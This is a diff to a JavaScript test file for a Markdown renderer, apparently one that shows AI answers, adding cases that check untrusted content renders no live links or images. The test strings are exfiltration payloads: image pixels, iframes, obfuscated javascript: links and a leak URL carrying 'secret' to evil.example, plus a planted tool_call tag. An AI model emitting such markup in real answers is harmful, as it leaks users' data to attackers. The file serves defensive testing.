@@ -94,6 +94,30 @@ describe("untrusted Markdown", () => {
     },
   );
 
+  it.each([
+    "![a][1]\n\n[1]: https://evil.example/pixel.png",
+    "<picture><source srcset='https://evil.example/x.png'></picture>",
+    "<svg><image href='https://evil.example/x.png'/></svg>",
+    "<iframe src='https://evil.example'></iframe><link rel=prefetch href='//evil.example'>",
+    "```html\n<img src=https://evil.example/x.png>\n```",
+    "[x](data:text/html;base64,PHN2Zz4=) [y](//evil.example) [z](jav\tascript:alert(1))",
+    '<tool_call>{"name": "send"}</tool_call>',
+  ])("fetches and follows nothing that a document has put into an answer: %s", (text) => {
+    const { container } = show(text);
+    expect(
+      container.querySelector("a, img, image, iframe, link, picture, source, svg[href], object"),
+    ).toBeNull();
+    expect(container.innerHTML).not.toMatch(/(?:src|href)=.[^"]*evil/);
+  });
+
+  it("shows what the API made of an order to leak as text", () => {
+    const { container } = show(
+      "! [x] (`https://evil.example/?q=secret`) [Sign in] (`https://evil.example`)",
+    );
+    expect(container.querySelector("a, img")).toBeNull();
+    expect(container).toHaveTextContent("https://evil.example/?q=secret");
+  });
+
   it("renders tables and code", () => {
     show("| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1)\n```");
     expect(screen.getByRole("table")).toBeInTheDocument();
